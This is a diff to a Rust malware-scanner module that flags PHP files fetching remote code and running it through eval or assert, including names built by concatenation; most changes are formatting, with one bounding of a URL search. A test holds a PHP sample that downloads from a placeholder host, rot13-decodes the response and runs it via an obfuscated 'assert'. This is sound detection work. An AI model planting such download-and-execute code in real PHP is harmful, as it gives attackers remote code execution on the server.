@@ -52,7 +52,8 @@ fn called(text: &str, name: &str) -> Option<usize> {
     let b = text.as_bytes();
     text.match_indices(name).map(|(i, _)| i).find(|&i| {
         let end = i + name.len();
-        let before_ok = i == 0 || !(b[i - 1].is_ascii_alphanumeric() || matches!(b[i - 1], b'_' | b'$' | b'>' | b':'));
+        let before_ok = i == 0
+            || !(b[i - 1].is_ascii_alphanumeric() || matches!(b[i - 1], b'_' | b'$' | b'>' | b':'));
         let after = text[end..].trim_start_matches([' ', '\t', '@']);
         before_ok && after.starts_with('(') && !in_comment_line(text, i)
     })
@@ -60,8 +61,9 @@ fn called(text: &str, name: &str) -> Option<usize> {
 
 /// Names the file builds by concatenation (`$f = 'ev' . 'al';`), folded.
 fn built_names(text: &str) -> Vec<(String, usize)> {
-    static ASSIGN: crate::rx::Lazy =
-        crate::rx::Lazy::new(r#"\$([A-Za-z_][A-Za-z0-9_]*)\s*=\s*(['"][^;\n]*['"]\s*\.\s*[^;\n]*);"#);
+    static ASSIGN: crate::rx::Lazy = crate::rx::Lazy::new(
+        r#"\$([A-Za-z_][A-Za-z0-9_]*)\s*=\s*(['"][^;\n]*['"]\s*\.\s*[^;\n]*);"#,
+    );
     let mut vars = None;
     let mut out = Vec::new();
     for c in ASSIGN.captures_iter(text) {
@@ -85,18 +87,31 @@ pub fn scan(src: &Src, sink: &mut Sink) {
         return;
     }
     let remote = text.contains("'http") || text.contains("\"http");
-    if !remote || !FETCHES.iter().any(|f| called(text, f.trim_end_matches('(')).is_some()) {
+    if !remote
+        || !FETCHES
+            .iter()
+            .any(|f| called(text, f.trim_end_matches('(')).is_some())
+    {
         return;
     }
     let built = built_names(text);
-    let named = |set: &[&str]| built.iter().find(|(v, _)| set.contains(&v.as_str())).map(|(_, at)| *at);
+    let named = |set: &[&str]| {
+        built
+            .iter()
+            .find(|(v, _)| set.contains(&v.as_str()))
+            .map(|(_, at)| *at)
+    };
     let evaluator = EVALUATORS
         .iter()
         .filter_map(|e| called(text, e))
         .filter(|&at| {
             // The argument is not one literal (`eval('return 1;')`).
-            let rest = text[at..].split_once('(').map_or("", |(_, r)| r).trim_start();
-            !(rest.starts_with('\'') || rest.starts_with('"')) || text[at..].starts_with("preg_replace")
+            let rest = text[at..]
+                .split_once('(')
+                .map_or("", |(_, r)| r)
+                .trim_start();
+            !(rest.starts_with('\'') || rest.starts_with('"'))
+                || text[at..].starts_with("preg_replace")
         })
         .min()
         .or_else(|| named(EVALUATORS));
@@ -114,8 +129,12 @@ pub fn scan(src: &Src, sink: &mut Sink) {
         .iter()
         .flat_map(|f| text.match_indices(f).map(|(i, _)| i))
         .filter_map(|i| {
-            let line = &text[i..text[i..].find('\n').map_or(text.len(), |e| i + e)];
-            crate::extract::indicators::URL_RE.find(line).map(|m| m.as_str())
+            // The message's URL only: a bounded look at the call's line.
+            let cap = crate::text::clamp_boundary(text, (i + 512).min(text.len()));
+            let line = &text[i..text[i..cap].find('\n').map_or(cap, |e| i + e)];
+            crate::extract::indicators::URL_RE
+                .find(line)
+                .map(|m| m.as_str())
         })
         .next()
         .unwrap_or("fetched code");
@@ -144,7 +163,11 @@ mod tests {
             "<?php\n$ch = curl_init('https://h.example/p');\n$b = curl_exec($ch);\n$a = 'as' . 'sert';\n$a(str_rot13($b));\n",
         ] {
             let ev = run("a.php", t);
-            assert!(ev.iter().any(|e| e.op == Op::DownloadExec || e.has(Tag::Obfuscated)), "{t}");
+            assert!(
+                ev.iter()
+                    .any(|e| e.op == Op::DownloadExec || e.has(Tag::Obfuscated)),
+                "{t}"
+            );
         }
     }
 
